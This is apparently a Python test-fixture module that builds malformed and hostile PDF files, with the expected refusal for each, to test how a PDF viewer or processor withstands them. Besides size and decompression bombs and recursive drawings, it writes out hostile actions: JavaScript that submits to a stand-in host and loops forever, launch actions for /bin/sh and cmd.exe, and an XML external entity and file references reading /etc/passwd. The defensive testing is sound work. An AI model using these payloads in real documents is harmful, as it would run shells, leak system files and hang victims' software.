"""PDF documents written byte by byte: good ones, and some made to harm who draws them."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

SEED = 20_160_404


@dataclass(frozen=True)
class Paper:
    """One document; ``refused`` are words of the refusal, None where it is harmless if drawn."""

    name: str
    data: bytes
    refused: str | None = None


def stream(data: bytes, about: str = "", *, packed: bool = True) -> bytes:
    """A stream object."""
    if packed:
        data, about = zlib.compress(data, 9), f"{about} /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (about.encode(), len(data), data)


def written(objects: Mapping[int, bytes], trailer: str = "") -> bytes:
    """A file of these objects; the first is its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %s \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, trailer.encode(), start)
    return bytes(out)


def paper(
    content: bytes = b"0 0 1 rg 100 100 200 300 re f", *, box: str = "[0 0 595 842]", page: str = "",
    resources: str = "", catalogue: str = "", more: Mapping[int, bytes] | None = None,
    trailer: str = "",
) -> bytes:
    """A document of one page that draws ``content``; objects from number 10 on are free."""
    return written({
        1: f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: (f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R "
            f"/Resources << /Font << /F 5 0 R >> {resources} >> {page} >>").encode(),
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(more or {}),
    }, trailer)


def pages(number: int, said: int | None = None) -> bytes:
    """A document of so many pages, each with a number on it; ``said`` is what it says of them."""
    kids = " ".join(f"{n} 0 R" for n in range(10, 10 + number))
    return written({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {number if said is None else said} >>".encode(),
        4: stream(b"0 g 100 100 200 300 re f"),
        **dict.fromkeys(range(10, 10 + number),
                        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
    })


def form() -> bytes:
    """A form that was filled in, with the drawing that a field keeps of its value."""
    return paper(
        b"", page="/Annots [10 0 R]", catalogue="/AcroForm << /Fields [10 0 R] >>",
        more={
            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (maker) /V (Northern Works) /F 4 "
                b"/Rect [100 700 300 730] /AP << /N 11 0 R >> >>",
            11: stream(b"1 0 0 rg 0 0 200 30 re f",
                       "/Type /XObject /Subtype /Form /BBox [0 0 200 30]"),
        })


def _of_size() -> Iterator[Paper]:
    yield Paper("box-of-a-thousand-million", paper(box="[0 0 1000000000 1000000000]"))
    yield Paper("box-as-a-thread", paper(box="[0 0 1 100000000]"))
    yield Paper("box-turned-over", paper(box="[595 842 0 0]"))
    yield Paper("box-of-nothing", paper(box="[0 0 0 0]"))
    yield Paper("box-of-words", paper(box="(letter)"))
    yield Paper("box-beyond-numbers", paper(box="[0 0 1e400 9" + "9" * 400 + "]"))
    yield Paper("box-below-zero", paper(box="[-2147483648 -2147483648 2147483647 2147483647]"))
    yield Paper("unit-of-a-million", paper(page="/UserUnit 1000000"))
    yield Paper("turned-by-one", paper(page="/Rotate 1"))


def _of_pages() -> Iterator[Paper]:
    yield Paper("no-pages", written({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                                     2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "damaged")
    yield Paper("says-two-thousand-million", pages(3, 2_000_000_000))
    yield Paper("says-none", pages(3, 0))
    yield Paper("says-fewer-than-none", pages(3, -5))
    yield Paper("its-own-page", written({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}), "page 1 of its-own-page is damaged")
    deep = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for n in range(2, 30_000):
        deep[n] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1)
    deep[30_000] = b"<< /Type /Page /Parent 29999 0 R /MediaBox [0 0 9 9] >>"
    yield Paper("thirty-thousand-deep", written(deep), "page 1")


def _of_pictures() -> Iterator[Paper]:
    def with_picture(about: str, data: bytes, *, packed: bool = True) -> bytes:
        return paper(b"500 0 0 500 0 0 cm /P Do", resources="/XObject << /P 10 0 R >>", more={
            10: stream(data, f"/Type /XObject /Subtype /Image {about}", packed=packed)})

    grey = "/ColorSpace /DeviceGray /BitsPerComponent 8"
    yield Paper("picture-of-ten-thousand-million",
                with_picture(f"/Width 100000 /Height 100000 {grey}", b"\0" * 5_000))
    yield Paper("picture-of-64-megabytes",
                with_picture(f"/Width 8000 /Height 8000 {grey}", b"\0" * 64_000_000))
    yield Paper("picture-below-zero", with_picture(f"/Width -4 /Height -4 {grey}", b"\0" * 90))
    yield Paper("picture-of-sixty-four-bits", with_picture(
        "/Width 40 /Height 40 /ColorSpace /DeviceRGB /BitsPerComponent 64", b"\0" * 900))
    for name in ("DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode", "LZWDecode", "Crypt"):
        noise = random.Random(SEED).randbytes(4_000)
        yield Paper(f"picture-of-noise-{name}", with_picture(
            f"/Width 4000 /Height 4000 {grey} /Filter /{name}", noise, packed=False))
    yield Paper("picture-with-itself-as-mask", with_picture(
        f"/Width 40 /Height 40 {grey} /SMask 10 0 R", b"\0" * 1_600))


def _of_drawings() -> Iterator[Paper]:
    yield Paper("megabytes-of-lines", paper(b"0 0 m 500 500 l S " * 2_500_000), "memory")
    yield Paper("packed-a-hundred-times", paper(more={4: _packed(100)}))
    yield Paper("saved-a-million-times", paper(b"q " * 1_000_000))
    yield Paper("brackets-without-end", paper(b"[" * 1_000_000))
    yield Paper("draws-itself", paper(b"/X Do", resources="/XObject << /X 10 0 R >>", more={
        10: stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                                   "/Resources << /XObject << /X 10 0 R >> >>")}), "memory")
    yield Paper("ten-to-the-tenth", paper(b"/X Do", resources="/XObject << /X 10 0 R >>", more={
        n: stream((b"/X Do " * 10) if n < 20 else b"0 0 9 9 re f",
                  "/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                  f"/Resources << /XObject << /X {n + 1} 0 R >> >>")
        for n in range(10, 21)}), "memory")
    yield Paper("tiles-of-a-hair", paper(
        b"/Pattern cs /T scn 0 0 595 842 re f", resources="/Pattern << /T 10 0 R >>", more={
            10: stream(b"0 0 1 1 re f", "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 "
                                        "/BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>")}),
        "processor time")
    yield Paper("dashes-of-nothing", paper(b"[0.000001 0.000001] 0 d 0 0 m 595 842 l S " * 50))
    yield Paper("shade-by-program", paper(b"/S sh", resources="/Shading << /S 10 0 R >>", more={
        10: b"<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1e9 0 1e9] /Function 11 0 R >>",
        11: stream(b"{" + b"2 copy " * 20_000 + b"}",
                   "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]")}))
    yield Paper("letters-that-write-themselves", paper(b"BT /L 90 Tf (aaaa) Tj ET", more={
        5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
           b"/CharProcs << /a 10 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 "
           b"/LastChar 97 /Widths [9] /Resources << /Font << /L 5 0 R >> >> >>",
        10: stream(b"BT /L 90 Tf (aaaa) Tj ET")}, resources="/Font << /L 5 0 R >>"))
    yield Paper("font-of-noise", paper(b"BT /F 40 Tf 90 90 Td (Works) Tj ET", more={
        5: b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 10 0 R >>",
        10: b"<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 11 0 R >>",
        11: stream(b"\0\1\0\0\0\x0a" + random.Random(SEED).randbytes(6_000))}))


def _packed(times: int) -> bytes:
    data = b"0 0 9 9 re f " * 1_000
    for _ in range(times):
        data = zlib.compress(data)
    return stream(data, f"/Filter [{'/FlateDecode ' * times}]", packed=False)


def _of_wishes() -> Iterator[Paper]:
    script = "(app.alert\\(1\\); this.submitForm\\('http://x.invalid/'\\); while\\(true\\){})"
    for name, action in {
        "script": f"<< /S /JavaScript /JS {script} >>",
        "program": "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "address": "<< /S /URI /URI (http://x.invalid/) >>",
        "other-file": "<< /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>",
        "post": "<< /S /SubmitForm /F (http://x.invalid/) >>",
    }.items():
        yield Paper(f"wants-{name}", paper(catalogue=f"/OpenAction {action}"))
        yield Paper(f"page-wants-{name}", paper(page=f"/AA << /O {action} >>"))
    yield Paper("form-with-script", paper(
        page="/Annots [10 0 R]", catalogue="/AcroForm << /Fields [10 0 R] /NeedAppearances true >>",
        more={10: f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 90 90] "
                  f"/AA << /F << /S /JavaScript /JS {script} >> >> >>".encode()}))
    yield Paper("form-of-xml", paper(catalogue="/AcroForm << /XFA 10 0 R /Fields [] >>", more={
        10: stream(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')}))
    yield Paper("content-in-another-file", paper(more={
        4: b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"}))


def _of_form() -> Iterator[Paper]:
    yield Paper("locked", paper(trailer=(
        f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <{'a1' * 32}> /U <{'b2' * 32}> >> "
        f"/ID [<{'00' * 16}> <{'00' * 16}>]")), "protected by a password")
    yield Paper("locked-otherwise", paper(trailer=(
        f"/Encrypt << /Filter /Unheard.Of /V 9 >> /ID [<{'00' * 16}> <{'00' * 16}>]")), "protected")
    yield Paper("nothing", b"", "no PDF")
    yield Paper("a-mark-alone", b"%PDF-1.7", "damaged")
    yield Paper("a-page-of-html", b"<html><script>alert(1)</script>", "no PDF")
    yield Paper("mark-and-html", b"%PDF-1.7\n<html><script>alert(1)</script>", "damaged")
    good = paper()
    yield Paper("first-half", good[: len(good) // 3], "damaged")
    yield Paper("table-that-is-before-itself", good.replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % good.rfind(b"xref\n0")))
    yield Paper("length-that-is-itself", paper(more={
        4: b"<< /Length 4 0 R >>\nstream\n0 0 9 9 re f\nendstream"}))
    yield Paper("objects-in-themselves", paper(more={
        10: stream(b"10 0 11 5 << /A 10 0 R >>", "/Type /ObjStm /N 2 /First 10 /Extends 10 0 R")}))
    yield Paper("brackets-in-an-object", paper(more={10: b"[" * 500_000}, page="/Annots 10 0 R"))
    yield Paper("name-that-does-not-end", paper(page="/" + "A" * 2_000_000))


def hostile_papers() -> list[Paper]:
    """All of them, the same ones each time."""
    return [*_of_size(), *_of_pages(), *_of_pictures(), *_of_drawings(), *_of_wishes(), *_of_form()]


def changed_by_chance(number: int) -> list[Paper]:
    """A good document changed at random, its packed parts left in the open so that they are hit."""
    found = []
    bases = [paper(b"BT /F 40 Tf 90 90 Td (Works) Tj ET 0 0 9 9 re f", more={}), form(), pages(3)]
    for seed in range(number):
        chance = random.Random(SEED + seed)
        data = bytearray(chance.choice(bases))
        for _ in range(chance.randint(1, 40)):
            at = chance.randrange(9, len(data))
            what = chance.randrange(3)
            if what == 0:
                data[at] = chance.randrange(256)
            elif what == 1:
                del data[at : at + chance.randint(1, 30)]
            else:
                other = chance.randrange(9, len(data))
                data[at:at] = data[other : other + chance.randint(1, 60)]
            if len(data) < 40:
                break
        found.append(Paper(f"chance-{seed}", bytes(data)))
    return found
